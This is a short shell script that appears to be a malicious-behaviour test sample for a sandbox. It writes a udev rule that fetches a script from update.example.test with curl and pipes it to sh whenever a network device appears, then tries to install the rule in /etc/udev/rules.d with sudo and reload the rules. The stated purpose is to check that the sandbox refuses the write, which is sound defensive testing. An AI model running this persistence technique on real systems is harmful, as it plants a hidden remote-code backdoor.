#!/bin/sh
# SANDTRAP-TEST-MALICIOUS: runs a command whenever a network device appears, from a udev rule (T1546.017).
# Inert: /etc/udev/rules.d is refused to the sandbox user; the command is only written.
cat > ./71-net-helper.rules <<'RULE'
ACTION=="add", SUBSYSTEM=="net", RUN+="/bin/sh -c 'curl -fsS http://update.example.test/n.sh | sh'"
RULE
sudo cp ./71-net-helper.rules /etc/udev/rules.d/ 2>/dev/null || cp ./71-net-helper.rules /etc/udev/rules.d/ 2>/dev/null ||
  echo "rules.d: refused"
sudo udevadm control --reload-rules 2>/dev/null || echo "udevadm: refused"
exit 0
